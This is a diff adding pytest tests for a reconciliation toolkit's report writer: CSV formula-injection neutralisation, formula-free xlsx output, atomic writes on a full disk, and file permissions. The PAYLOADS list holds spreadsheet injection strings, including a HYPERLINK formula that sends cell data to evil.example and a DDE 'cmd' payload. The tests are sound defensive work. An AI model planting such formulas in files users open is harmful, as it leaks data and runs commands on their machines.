@@ -2,6 +2,7 @@
 
 from __future__ import annotations
 
+import csv
 import os
 import re
 from datetime import UTC, datetime
@@ -11,12 +12,23 @@ import openpyxl
 import pandas as pd
 import pytest
 
+from tests.reconcile.conftest import FillDisk
 from tests.reconcile.test_engine import PLANTED_LEDGER, PLANTED_PROCESSOR, run
-from toolkit.reconcile import EXCEPTION_COLUMNS, render_html, write_report
+from toolkit.errors import OutputError
+from toolkit.reconcile import (
+    EXCEPTION_COLUMNS,
+    ReconciliationResult,
+    load_ledger,
+    load_processor,
+    reconcile,
+    render_html,
+    write_report,
+)
 
 SNAPSHOTS = Path(__file__).parent / "snapshots"
 WHEN = datetime(2026, 1, 2, 3, 4, 5, tzinfo=UTC)
 ENVIRONMENT = "embedded sandbox (.toolkit/sandbox.sqlite)"
+NUMBER = re.compile(r"[+-]?\d+(\.\d+)?")  # what a spreadsheet reads as a number, not a formula
 
 
 def stable_html(text: str) -> str:
@@ -93,3 +105,85 @@ def test_workbook_survives_control_characters_and_splits_at_the_row_limit(
     assert parts == ["missing_in_processor", "missing_in_processor (2)", "missing_in_processor (3)"]
     keys = [row[0] for name in parts for row in workbook[name].iter_rows(min_row=2, values_only=True)]
     assert sorted(keys) == [f"only-ledger-{i}" for i in range(5)]
+
+
+# ---------------------------------------------------------------------------------------------
+# CSV formula injection and safe writing
+
+PAYLOADS = ['=HYPERLINK("https://evil.example/?x="&A1,"click")', "+1+1", "@SUM(1)", "\t=1+1",
+            "-2+3", "=cmd|' /C calc'!A0"]
+RISKY = ("=", "+", "-", "@", "\t", "\r")
+
+
+def injection_result(tmp_path: Path) -> ReconciliationResult:
+    """A ledger file whose keys, statuses and currencies hold formulas; one negative amount."""
+    rows = [f'"{p.replace(chr(34), chr(34) * 2)}",1.00,USD,success' for p in PAYLOADS]
+    rows += ['rej-status,1.00,USD,"=1+2"', 'rej-currency,1.00,"@A1",success',
+             "neg,-12.00,USD,success"]
+    ledger = tmp_path / "ledger.csv"
+    ledger.write_text("merchantReferenceId,amount,currency,status\n" + "\n".join(rows) + "\n",
+                      encoding="utf-8")
+    processor = pd.DataFrame({"merchantReferenceId": ["neg"], "amount": ["-12.01"],
+                              "currency": ["USD"], "status": ["success"]})
+    return reconcile(load_ledger(ledger), load_processor(processor))
+
+
+def test_csv_cells_a_spreadsheet_would_execute_are_neutralised(tmp_path: Path) -> None:
+    result = injection_result(tmp_path)
+    paths = write_report(result, tmp_path / "out", environment=ENVIRONMENT, generated_at=WHEN)
+    for name in ("exceptions.csv", "summary.csv"):
+        with paths[name].open(newline="", encoding="utf-8") as handle:
+            cells = [cell for row in csv.reader(handle) for cell in row]
+        dangerous = [c for c in cells if c.startswith(RISKY) and not NUMBER.fullmatch(c)]
+        assert not dangerous, f"{name}: {dangerous}"
+    exceptions = pd.read_csv(paths["exceptions.csv"], dtype=str, keep_default_na=False)
+    keys = set(exceptions["merchantReferenceId"])
+    # Trimming made the tab guard "\t=1+1" a formula again: it is neutralised like the others.
+    assert {"'" + p.strip() for p in PAYLOADS} <= keys
+    assert "'=1+2" in set(exceptions["ledger_status"]) and "'@A1" in set(exceptions["ledger_currency"])
+    neg = exceptions[exceptions["merchantReferenceId"] == "neg"].iloc[0]
+    assert (neg["ledger_amount"], neg["processor_amount"]) == ("-12.00", "-12.01")  # numbers stay
+
+
+def test_workbook_keeps_text_as_text(tmp_path: Path) -> None:
+    """report.xlsx holds inline strings, never formulas: the payload is shown as written."""
+    result = injection_result(tmp_path)
+    paths = write_report(result, tmp_path / "out", environment=ENVIRONMENT, generated_at=WHEN)
+    workbook = openpyxl.load_workbook(paths["report.xlsx"])
+    cells = [cell for row in workbook["missing_in_processor"].iter_rows(min_row=2) for cell in row]
+    assert all(cell.data_type != "f" for cell in cells)
+    assert {c.value for c in cells if c.column == 1} >= {p.strip() for p in PAYLOADS}
+
+
+def test_a_full_disk_leaves_no_partial_report(tmp_path: Path, fill_disk: FillDisk) -> None:
+    result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
+    folder = fill_disk(tmp_path / "full", free=1_000)
+    with pytest.raises(OutputError, match="No space left on device") as raised:
+        write_report(result, folder, environment=ENVIRONMENT, generated_at=WHEN)
+    assert str(folder) in str(raised.value)
+    assert list(folder.iterdir()) == []  # no report file, whole or partial, and no temporary
+
+
+def test_a_failed_run_keeps_the_previous_report_whole(tmp_path: Path, fill_disk: FillDisk) -> None:
+    """The four files are moved into place together: a failure leaves the previous set as it was."""
+    result = run(PLANTED_LEDGER, PLANTED_PROCESSOR)
+    folder = tmp_path / "out"
+    before = write_report(result, folder, environment=ENVIRONMENT, generated_at=WHEN)
+    old = {name: path.read_bytes() for name, path in before.items()}
+    fill_disk(folder, free=1_000)
+    with pytest.raises(OutputError):
+        write_report(result, folder, environment="changed", generated_at=WHEN)
+    assert {p.name: p.read_bytes() for p in folder.iterdir()} == old
+
+
+def test_report_files_get_the_usual_permissions(tmp_path: Path) -> None:
+    """Written through a temporary file, the reports still get what the umask gives any new file
+    (``mkstemp``'s owner-only mode would lock the finance team out of a shared reports folder)."""
+    umask = os.umask(0o022)
+    try:
+        paths = write_report(run(PLANTED_LEDGER, PLANTED_PROCESSOR), tmp_path / "out",
+                             environment=ENVIRONMENT, generated_at=WHEN)
+    finally:
+        os.umask(umask)
+    assert {name: oct(path.stat().st_mode & 0o777) for name, path in paths.items()} == {
+        name: "0o644" for name in paths}
